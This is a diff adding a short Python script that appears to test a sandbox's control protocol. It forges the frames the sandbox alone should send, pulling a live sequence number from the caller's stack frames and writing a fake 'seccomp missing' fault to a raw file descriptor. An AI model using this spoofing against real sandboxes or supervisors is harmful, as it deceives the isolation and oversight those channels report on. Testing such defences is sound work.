@@ -1,0 +1,22 @@
+"""Send frames that only the box itself sends: locked, ready, a fault of the machine."""
+
+import os
+import struct
+import sys
+import time
+
+
+def forge(payload, kind=0):
+    """Answer by hand, with the question's own number, found in the frames of the code that asked."""
+    frame = sys._getframe()
+    while "sequence" not in frame.f_locals:
+        frame = frame.f_back
+    os.write(4, struct.pack("<IIB", len(payload), frame.f_locals["sequence"], kind) + payload)
+
+
+target = 255
+
+
+def attack():
+    forge(b"\x93\xa7seccomp\x01\xa7missing", target)
+    time.sleep(60)  # or the box's own answer would come after it
